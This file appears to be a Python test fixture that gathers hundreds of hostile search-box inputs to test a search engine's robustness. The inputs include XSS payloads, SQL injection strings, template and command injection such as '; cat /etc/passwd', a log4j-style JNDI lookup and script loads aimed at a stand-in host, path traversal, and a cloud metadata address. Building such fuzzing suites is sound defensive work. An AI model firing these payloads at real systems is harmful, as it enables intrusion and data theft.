"""What people, scanners and broken programs put into a search box: over 500 texts, made of words and what is done to
them. Whatever is added here is asked of every engine, page and address (`test_search_hostile`)."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping

from search.backends.base import FACETS
from search.query import clean

WORD, OTHER = "羊", "羔"
"""Both stand in what the tests look through, so that a text around them is not just looked up in vain."""
MANY = 10_000


def around(marks: Iterable[str]) -> Iterator[str]:
    """Each mark alone, around a word, after one, between two, and far too often."""
    for mark in marks:
        yield from (mark, f"{mark}{WORD}{mark}", f"{WORD}{mark}", f"{WORD} {mark} {OTHER}", mark * MANY)


def beside(texts: Iterable[str]) -> Iterator[str]:
    """Each text alone and with a word that is found."""
    for text in texts:
        yield from (text, f"{WORD} {text}")


_OPERATORS = [
    *("AND", "OR", "NOT", "NEAR", "NEAR/3", "TO", "&&", "||", "!", "+", "-", "*", "?", "~2", "^4", ":", "="),
    *("|",),
]
_BRACKETS = ["(", ")", "[", "]", "{", "}", "()", ")(", "((羊)", "<", ">"]
_QUOTES = ["'", '"', '""', "''", "`", "\\", '\\"', "“", "”", "「", "»", "\u2032", "\uff02", "\uff07"]
_CONTROLS = ["\0", "\x01", "\b", "\t", "\n", "\v", "\f", "\r", "\r\n", "\x1b[31m", "\x7f", "\x80", "\x85", "\x9f"]
_INVISIBLE = [
    *("\u00a0", "\u00ad", "\u034f", "\u061c", "\u115f", "\u180b", "\u180e", "\u200b", "\u200c", "\u200d"),
    *("\u200e", "\u2028", "\u2029", "\u202f", "\u2060", "\u2066", "\u3000", "\u3164", "\ufe0f", "\ufeff"),
    *("\ufff9", "\U000e0041"),
]
_SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "\ud83d", "\udcff"]
_RIGHT_TO_LEFT = ["\u202e", "\u202b羊\u202c", "שלום", "مرحبا بالعالم", "\u2067abc\u2069", "ﷺ", "\u0600", "٣"]
_EMOJI = [
    *("🐏", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇨🇳", "🇨", "👍🏿", "1️⃣", "☃", "\U0001f3fb", "\u200d🐏\u200d", "🐏\ufe0e"),
]
_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.example/></sCrIpT>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>羊</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//x.example>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<style>@import'//x.example'</style>",
    "<link rel=stylesheet href=//x.example>",
    "<form action=//x.example><input name=password>",
    "<mark>羊</mark>",
    "</mark><b>羊",
    "<!-- 羊",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;&lt;&#0;&#x110000;&nosuch;",
    "＜script＞alert(1)＜/script＞",
    "\u003cscript\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
_FTS5 = [
    *("title_b:羊", "{title_b access} : 羊", "access:public", 'access : "t7075626c6963"', "- {access} : 羊"),
    *("^羊", '"羊" + "羔"', '"羊"*', "NEAR(羊 羔, 5)", "羊 AND NOT 羔", "rowid:1", "rank MATCH 'bm25()'"),
    *('search_fts_document:"', "INSERT INTO search_fts_document(search_fts_document) VALUES('delete-all')"),
    *('" OR access : "', '") OR ("'),
]
_LUCENE = [
    *("access:*", "_exists_:access", "*:*", "title_b:[* TO *]", "year:{2000 TO 2024}", "羊~0.8", "羊^1e309"),
    *('"羊 羔"~10', "羊 羔^99999999", "/羊.*/", "/(a+)+$/", "/.*.*.*.*.*=.*/", "[[:alpha:]]{1,99999}"),
    *("^(([a-z])+.)+[A-Z]([a-z])+$", "(?R)", "(?:a|a)*b", "\\p{Han}+", "羊 \\u0000", "+羊 -羔"),
    *("doc['access'].value", "_id:1", "?羊", "*羊*"),
]
_JSON = [
    *('{"query":{"match_all":{}}}', '"}},{"match_all":{}}', '{"script":"while(true){}"}', "{", "[[[[[["),
    *("null", "true", '{"$ne":null}', '{"$where":"sleep(9)"}', "__proto__", "constructor.prototype", "\\u0022"),
    *("NaN", "Infinity", "[]", '{"terms":{"access":["below-1"]}}', '{"a":' * 50, "undefined", "\\"),
    *('"],"access":["public"',),
]
_SQL = [
    *("'; DROP TABLE search_fts_document; --", "' OR '1'='1", "1; SELECT pg_sleep(9)"),
    *("羊' UNION SELECT password FROM", "x' AND 1=randomblob(1e9) --", "$$; DELETE FROM auth_user; $$"),
    *("/*!50000SELECT*/", "%' LIKE '%", "羊\\' OR 1=1#", "';EXEC xp_cmdshell('dir')--", "0x27204f5220"),
    *("CHAR(39)", "'||(SELECT version())||'", "?1", ":q", "$1", "@@version", "load_extension('x')", "羊%"),
    *("羊_", "\\x27", "E'\\\\'"),
]
_FORMATS = [
    *("%", "%s", "%n%n%n%n", "%(q)s", "%99999999d", "%c%c", "{0}", "{}", "{q!r}", "{0.__class__.__mro__}"),
    *("{:>99999999}", "{{ 7*7 }}", "{{ request.user.password }}", "{% debug %}", "{% include 'x' %}"),
    *("{# 羊 #}", "{{ 羊|safe }}", "{{", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://x.example/a}"),
    *("${羊:-羔}", "$(id)", "`id`", "; cat /etc/passwd", "| sleep 9", "&& sleep 9", "*{7*7}", "@{羊}"),
    *("[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}"),
]
_ADDRESSES = [
    *("../../etc/passwd", "..\\..\\windows", "/%2e%2e/", "file:///etc/passwd", "http://169.254.169.254/"),
    *("//x.example", "\r\n\r\nSet-Cookie: a=b", "羊\r\nLocation: //x.example", "?q=羊&kind=case", "#羊"),
    *("&page=2", "q=羊;page=2", "a.b.c", "http://[::1", "%00", "%ff%fe", "%u7f8a", "+%2B+"),
    *("*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///'>", "CON"),
]
_NUMBERS = [
    *("0", "-1", "1e309", "-0", "9" * 400, "0x10", "1/0", "²", "½", "Ⅷ", "①", "１２", "٣٤", "〇", "壹"),
    *("1,000", "1_000", "१२", "2147483648", "-9223372036854775809", "1.7976931348623157e309", ".", "-.5e-324"),
    *("２０２４年", "2024-02-30", "25:61"),
]
_LETTERS = [
    *("e" + "\u0301" * 5_000, "Z" + "\u0353\u0310\u0324" * 60, "\u0301羊", "İ", "ß", "ŉ", "ﬃ", "Ǆ", "ſ", "ǰ"),
    *("ΐ", "Å\u212b", "ﷺ" * 60, "㍿" * 60, "㌀", "\ufdfa" * 200, "ｶﾞ", "각", "\u1112\u1161\u11ab", "\u3099"),
    *("〱", "々", "〆", "𠮷", "\U00030000", "⺀", "⼀", "豈", "丽", "羊\ufe00", "羊\U000e0100", "\ue000"),
    *("\U000f0000", "\U0010ffff", "\ufffe", "\uffff", "\u0378", "་" * 300, "ཀ" * 300, "\u0f40\u0f90" * 200),
    *("འི", "༄༅།", "\u0f71\u0f72", "ᠮᠣᠩᠭᠣᠯ\u180e\u200d", "\u180b\u180c", "ꡏ", "ａｄｍｉｎ", "аdmin", "ⓐⓓⓜⓘⓝ"),
    *("𝖆𝖉𝖒𝖎𝖓", "\u1e9e", "ͅ", "Σς", "אָ", "क्षि", "กำ", "C++", "a" * 64, "a\u0300" * 100),
]
_LENGTHS = [
    *(
        f"{unit}" * MANY
        for unit in ("羊", "羊羔", "羊 ", "羊 羔 ", "a", "ab ", "羊a", "羊，", "长征精神", "🐏", "ཀ་", "\u0300", "＂")
    ),
    " ".join(f"w{n}" for n in range(MANY)),
    " OR ".join(f"羊{n}" for n in range(MANY)),
    " ".join(chr(0x4E00 + n) for n in range(MANY)),
    "".join(chr(0x4E00 + n) for n in range(MANY)),
    " ".join(chr(0x4E00 + n) * 8 for n in range(50)),
    " ".join("长征经神接高保玉"[n % 8 :] + "长征经神接高保玉"[: n % 8] for n in range(8)),
    f"{WORD}{' ' * MANY}{OTHER}",
    f"{' ' * 799}{WORD}",
    f"{' ' * 800}{WORD}",
    "x" * 1_000_000,
    "",
    " ",
]

BY_KIND: Mapping[str, tuple[str, ...]] = {
    "operators": tuple(around(_OPERATORS)),
    "brackets": tuple(around(_BRACKETS)),
    "quotes": tuple(around(_QUOTES)),
    "control characters": tuple(around(_CONTROLS)),
    "invisible characters": tuple(around(_INVISIBLE)),
    "lone surrogates": tuple(around(_SURROGATES)),
    "right to left": tuple(around(_RIGHT_TO_LEFT)),
    "emoji": tuple(around(_EMOJI)),
    "HTML": tuple(beside(_HTML)),
    "FTS5 syntax": tuple(beside(_FTS5)),
    "Lucene syntax and regexps": tuple(beside(_LUCENE)),
    "JSON": tuple(beside(_JSON)),
    "SQL": tuple(beside(_SQL)),
    "formats and templates": tuple(beside(_FORMATS)),
    "addresses and headers": tuple(beside(_ADDRESSES)),
    "numbers": tuple(beside(_NUMBERS)),
    "letters of other kinds": tuple(beside(_LETTERS)),
    "lengths": tuple(_LENGTHS),
}
HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(text for texts in BY_KIND.values() for text in texts))
"""All of them, each once."""

FACET_BOMBS: dict[str, dict[str, tuple[str, ...]]] = {
    "a thousand values": {facet: tuple(f"v{n}" for n in range(1_000)) for facet in FACETS},
    "huge values": {"place": tuple(f"{n}" * 100_000 for n in range(8))},
    "hostile values": {facet: tuple(clean(typed) for typed in HOSTILE) for facet in FACETS},
    "unknown names": dict.fromkeys(("no", "", "*", "kind.x", "羊", "_id", "a" * 300, "'", "access"), ("x",)),
}
"""Filters without end, by what is odd about them."""

ODD_ADDRESSES = [
    "q=%ff%fe",
    "q=%ed%a0%80",
    "q=%",
    "q",
    "q=a&q=b",
    "q[]=羊",
    "q[$ne]=羊",
    "%ff=%ff",
    "&&&===&&&",
    "q=羊;page=2",
    "?q=羊",
    "q=羊&" + "&".join(f"kind=v{n}" for n in range(900)),
    "q=羊&" + "&".join(f"kind=v{n}" for n in range(1_000)),
    "q=羊&" + "&".join(f"{facet}=v{n}" for n in range(100) for facet in FACETS),
    "q=羊&" + "&".join(f"{facet}=lesson&{facet}=case" for facet in FACETS),
    "q=羊&" + "&".join(f"no{n}=x" for n in range(900)),
    "q=羊&kind=" + "x" * 1_000_000,
    "q=羊&kind.x=x&facets=x&access=public&_id=1&filters[kind]=x&language=*",
    "&".join(["q=羊", "page=1", "kind=lesson", "size=1"] * 200),
]
"""What stands behind the `?` of an address; what is no ASCII in it is still to be encoded."""
